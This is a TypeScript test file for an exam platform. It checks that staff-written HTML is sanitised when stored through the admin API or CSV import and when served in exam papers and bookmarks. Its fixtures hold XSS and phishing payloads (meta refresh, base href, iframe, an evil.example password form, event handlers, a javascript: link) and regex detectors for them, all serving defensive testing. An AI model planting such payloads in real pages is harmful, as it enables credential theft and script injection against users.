// Staff-written HTML is cleaned by one sanitiser (src/lib/staff-html.ts) when it is written (admin API, CSV
// import) and again when it leaves the server (the test paper, bookmarks), so a row written some other way (the
// database by hand, an old import) is served clean too. Every field that carries HTML gets the same payloads.
import { Readable } from 'node:stream';
import type { Session } from '@campus/domain/auth/auth.contract';
import type { AdminKind } from '@campus/domain/admin/admin.endpoints';
import { and, eq, inArray } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Db } from '../src/db/client.ts';
import { assignments } from '../src/db/schema/assignments.ts';
import { examAnswers, examAttempts, examPassages, examQuestions } from '../src/db/schema/exam.ts';
import { announcements } from '../src/db/schema/home.ts';
import { findExternalIds } from '../src/features/admin/admin.repository.ts';
import { importCsv } from '../src/features/admin/import.service.ts';
import { createAdminKey, kindExamples } from './admin-kit.ts';
import { signIn } from './auth-helpers.ts';
import { createExamTest } from './factories/exam.ts';
import { createInstitute, createStudent } from './factories/institutes.ts';
import { createMigratedDatabase, createTestApp, fixedNow } from './helpers.ts';

/** What an attacker wrote into staff HTML in the second security round, one payload each. */
const payloads = {
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'base href': '<base href="https://evil.example/">',
  form: '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
  iframe: '<iframe src="https://evil.example/frame"></iframe>',
  'onerror and onclick': '<img src="https://cdn.test/x.png" onerror="alert(1)"><b onclick="alert(2)">bold</b>',
  'full-page fixed link':
    '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">next</a>',
  'javascript: link': '<a href="javascript:alert(1)">open</a>',
};
const dirty = `<p>Keep me</p>${Object.values(payloads).join('')}`;

/** What each payload leaves behind when it gets through. */
const leftovers: [string, RegExp][] = [
  ['meta refresh', /<meta|http-equiv/i],
  ['base href', /<base/i],
  ['form', /<form|<input|<button/i],
  ['iframe', /<iframe/i],
  ['onerror and onclick', /\son[a-z]+\s*=/i],
  ['full-page fixed link', /style\s*=|position|z-index/i],
  ['javascript: link', /javascript:/i],
];

function expectClean(where: string, html: string) {
  expect(html, `${where}: the harmless part`).toContain('<p>Keep me</p>');
  for (const [payload, pattern] of leftovers) expect(html, `${where}: ${payload}`).not.toMatch(pattern);
}

describe('staff HTML in every field that carries it', () => {
  let app: Awaited<ReturnType<typeof createTestApp>>;
  let db: Db;
  let instituteId: number;
  let key: string;
  const host = 'staff-html.test';

  beforeAll(async () => {
    const database = await createMigratedDatabase();
    db = database.db;
    instituteId = (await createInstitute(db, { host })).id;
    ({ key } = await createAdminKey(db, instituteId));
    app = await createTestApp({ database, rateLimits: { loginPerMinute: 1000 } });
  });
  afterAll(() => app.close());

  describe('when written', () => {
    const send = (kind: string, rows: unknown[]) =>
      app.inject({
        method: 'POST',
        url: `/api/admin/v1/${kind}`,
        headers: { host, 'x-api-key': key },
        payload: { rows },
      });
    const idOf = async (kind: AdminKind, externalId: string) =>
      (await findExternalIds(db, instituteId, kind, [externalId])).get(externalId)!.internalId;
    const questionOf = async (externalId: string) =>
      (
        await db
          .select()
          .from(examQuestions)
          .where(
            and(eq(examQuestions.instituteId, instituteId), eq(examQuestions.id, await idOf('questions', externalId))),
          )
      )[0]!;
    const question = (externalId: string, fields: Record<string, unknown>) => ({
      external_id: externalId,
      test_external_id: 'TST1',
      question_no: 10 + Number(externalId.replace(/\D/g, '')),
      section: 'Mathematics',
      ques_type: 1,
      question: '<p>Which?</p>',
      options: ['<p>one</p>', '<p>two</p>'],
      correct: 'a',
      marks: 1,
      ...fields,
    });
    const matching = (externalId: string, matchOptions: string[]) =>
      question(externalId, { ques_type: 6, match_options: matchOptions, correct: 'a=p|b=q' });

    /** Each HTML field of the admin kinds: the row that carries the payloads there, and where it is stored. */
    const fields: {
      field: string;
      kind: AdminKind;
      row: (html: string) => Record<string, unknown>;
      stored: () => Promise<string[]>;
    }[] = [
      {
        field: 'announcements.description_html',
        kind: 'announcements',
        row: (html) => ({
          external_id: 'N-X',
          title: 'Notice',
          description_html: html,
          announced_at: '20-11-2026 09:00',
        }),
        stored: async () => {
          const id = await idOf('announcements', 'N-X');
          const rows = await db.select().from(announcements).where(eq(announcements.id, id));
          return [rows[0]!.descriptionHtml];
        },
      },
      {
        field: 'assignments.description_html',
        kind: 'assignments',
        row: (html) => ({
          external_id: 'H-X',
          batch_external_id: '6A',
          subject_external_id: 'MATH6',
          title: 'Homework',
          description_html: html,
          due_at: '25-11-2026 18:00',
        }),
        stored: async () => {
          const id = await idOf('assignments', 'H-X');
          const rows = await db.select().from(assignments).where(eq(assignments.id, id));
          return [rows[0]!.descriptionHtml];
        },
      },
      {
        field: 'passages.text',
        kind: 'passages',
        row: (html) => ({ external_id: 'PSG-X', test_external_id: 'TST1', text: html }),
        stored: async () => {
          const id = await idOf('passages', 'PSG-X');
          const rows = await db.select().from(examPassages).where(eq(examPassages.id, id));
          return [rows[0]!.text];
        },
      },
      {
        field: 'questions.question',
        kind: 'questions',
        row: (html) => question('QX1', { question: html }),
        stored: async () => [(await questionOf('QX1')).question],
      },
      {
        field: 'questions.options',
        kind: 'questions',
        row: (html) => question('QX2', { options: [html, html] }),
        stored: async () => (await questionOf('QX2')).options.map((option) => option.text),
      },
      {
        field: 'questions.match_options',
        kind: 'questions',
        row: (html) => matching('QX3', [html, html]),
        stored: async () => (await questionOf('QX3')).matchOptions.map((option) => option.text),
      },
      {
        field: 'questions.solution',
        kind: 'questions',
        row: (html) => question('QX4', { solution: html }),
        stored: async () => [(await questionOf('QX4')).solution],
      },
    ];

    beforeAll(async () => {
      // The rows the fields above hang on: years, classes, sections, subjects, tests.
      for (const example of kindExamples.filter((each) =>
        ['academic-years', 'standards', 'batches', 'subjects', 'tests'].includes(each.kind),
      )) {
        const response = await send(example.kind, example.rows);
        expect(response.statusCode, `${example.kind}: ${response.body}`).toBe(200);
      }
    });

    it.each(fields)('the admin API stores $field clean', async ({ kind, row, stored }) => {
      const response = await send(kind, [row(dirty)]);
      expect(response.statusCode, response.body).toBe(200);
      const values = await stored();
      expect(values.length).toBeGreaterThan(0);
      for (const value of values) expectClean(kind, value);
      // Written again, the same dirty row is the clean row already stored.
      expect((await send(kind, [row(dirty)])).json()).toMatchObject({ unchanged: 1 });
    });

    it('the CSV import stores passages and questions clean', async () => {
      const csv = (header: string, cells: string[]) =>
        Readable.from([
          Buffer.from(`${header}\n${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\n`),
        ]);
      const passages = await importCsv({
        db,
        instituteId,
        kind: 'passages',
        input: csv('external_id,test_external_id,text', ['PSG-CSV', 'TST1', dirty]),
        now: fixedNow,
      });
      expect(passages).toMatchObject({ committed: true, errors: [] });
      const questions = await importCsv({
        db,
        instituteId,
        kind: 'questions',
        input: csv(
          'external_id,test_external_id,question_no,section,ques_type,question,options,correct,marks,solution',
          ['Q-CSV', 'TST1', '40', 'Mathematics', '1', dirty, `${dirty}|<p>other</p>`, 'a', '1', dirty],
        ),
        now: fixedNow,
      });
      expect(questions).toMatchObject({ committed: true, errors: [] });
      const [passage] = await db
        .select()
        .from(examPassages)
        .where(eq(examPassages.id, await idOf('passages', 'PSG-CSV')));
      expectClean('import passages.text', passage!.text);
      const stored = await questionOf('Q-CSV');
      expectClean('import questions.question', stored.question);
      expectClean('import questions.options', stored.options[0]!.text);
      expectClean('import questions.solution', stored.solution);
    });
  });

  describe('when served, from rows written dirty straight into the database', () => {
    let student: Session;
    let paper: {
      passages: { text: string }[];
      questions: { question: string; options: { text: string }[]; match_options: { text: string }[] }[];
    };
    let bookmarks: { question: string }[];
    let bookmark: {
      question: string;
      question_mathjax: string;
      description: string;
      description_mathjax: string;
      options: { answer_choice_option: string }[];
      feedback: string;
      feedback_mathjax: string;
    };

    beforeAll(async () => {
      const institute = await createInstitute(db, { host: 'served-html.test' });
      const login = await createStudent(db, institute);
      const open = await createExamTest(db, institute, { name: 'Open test' });
      // Released, its window closed and its one attempt taken: the bookmark shows the question in full.
      const closed = await createExamTest(db, institute, {
        name: 'Closed mock',
        testTypeId: 1,
        isResultPublished: true,
        startsAt: new Date(fixedNow.getTime() - 3 * 86_400_000),
        endsAt: new Date(fixedNow.getTime() - 86_400_000),
      });
      const lettered = (from: string) =>
        [0, 1].map((index) => ({ letter: String.fromCharCode(from.charCodeAt(0) + index), text: dirty }));
      for (const testId of [open, closed]) {
        await db.update(examPassages).set({ text: dirty }).where(eq(examPassages.testId, testId));
        await db
          .update(examQuestions)
          .set({ question: dirty, solution: dirty, options: lettered('a') })
          .where(eq(examQuestions.testId, testId));
        await db
          .update(examQuestions)
          .set({ matchOptions: lettered('p') })
          .where(and(eq(examQuestions.testId, testId), inArray(examQuestions.quesType, [6, 7])));
      }
      const startedAt = new Date(fixedNow.getTime() - 2 * 86_400_000);
      const [attempt] = await db
        .insert(examAttempts)
        .values({
          instituteId: institute.id,
          testId: closed,
          studentId: login.studentId,
          userId: login.userId,
          attemptNo: 1,
          startedAt,
          endsAt: new Date(startedAt.getTime() + 30 * 60_000),
          submittedAt: new Date(startedAt.getTime() + 20 * 60_000),
          submittedBy: 'student',
          credentialHash: `staff-html-${Math.random()}`,
          score: 0,
        })
        .returning({ id: examAttempts.id });
      // Question 7 is on the passage.
      await db.insert(examAnswers).values({
        instituteId: institute.id,
        attemptId: attempt!.id,
        questionNo: 7,
        answer: 'a',
        seq: 1,
        bookmarked: true,
        savedAt: new Date(startedAt.getTime() + 60_000),
      });

      const headers = (authorization: string) => ({ authorization, host: 'served-html.test' });
      student = await signIn(app, { user_name: login.login, password: login.password }, { host: 'served-html.test' });
      const launched = await app.inject({
        method: 'POST',
        url: '/examPanel/launch',
        headers: headers(student.examdesk_auth_token),
        payload: { test_id: open },
      });
      expect(launched.statusCode, launched.body).toBe(200);
      const opened = await app.inject({
        method: 'POST',
        url: '/examPanel/open',
        headers: { host: 'served-html.test' },
        payload: { launch_token: launched.json().launch_token },
      });
      expect(opened.statusCode, opened.body).toBe(200);
      const attemptAnswer = await app.inject({
        method: 'GET',
        url: '/examPanel/attempt',
        headers: headers(opened.json().attempt_token),
      });
      expect(attemptAnswer.statusCode, attemptAnswer.body).toBe(200);
      paper = attemptAnswer.json();
      const list = await app.inject({
        method: 'GET',
        url: `/student/testLabels/bookmark/${student.user_id}`,
        headers: headers(student.examdesk_auth_token),
      });
      expect(list.statusCode, list.body).toBe(200);
      bookmarks = list.json().data;
      const [{ id: questionId } = { id: 0 }] = await db
        .select({ id: examQuestions.id })
        .from(examQuestions)
        .where(and(eq(examQuestions.testId, closed), eq(examQuestions.questionNo, 7)));
      const detail = await app.inject({
        method: 'GET',
        url: `/student/testLabels/bookmark/${student.user_id}/${questionId}`,
        headers: headers(student.examdesk_auth_token),
      });
      expect(detail.statusCode, detail.body).toBe(200);
      bookmark = detail.json().data;
    });

    /** Each place the server sends staff HTML, with the values it sent there. */
    const places: { place: string; values: () => string[] }[] = [
      { place: 'the paper: passages', values: () => paper.passages.map((passage) => passage.text) },
      { place: 'the paper: questions', values: () => paper.questions.map((question) => question.question) },
      {
        place: 'the paper: options',
        values: () => paper.questions.flatMap((question) => question.options.map((option) => option.text)),
      },
      {
        place: 'the paper: match options',
        values: () => paper.questions.flatMap((question) => question.match_options.map((option) => option.text)),
      },
      { place: 'bookmarks: question', values: () => bookmarks.map((row) => row.question) },
      { place: 'bookmark: question', values: () => [bookmark.question, bookmark.question_mathjax] },
      { place: 'bookmark: passage', values: () => [bookmark.description, bookmark.description_mathjax] },
      { place: 'bookmark: options', values: () => bookmark.options.map((option) => option.answer_choice_option) },
      { place: 'bookmark: solution', values: () => [bookmark.feedback, bookmark.feedback_mathjax] },
    ];

    it.each(places)('$place', ({ place, values }) => {
      const sent = values();
      expect(sent.length, place).toBeGreaterThan(0);
      for (const value of sent) expectClean(place, value);
    });
  });
});
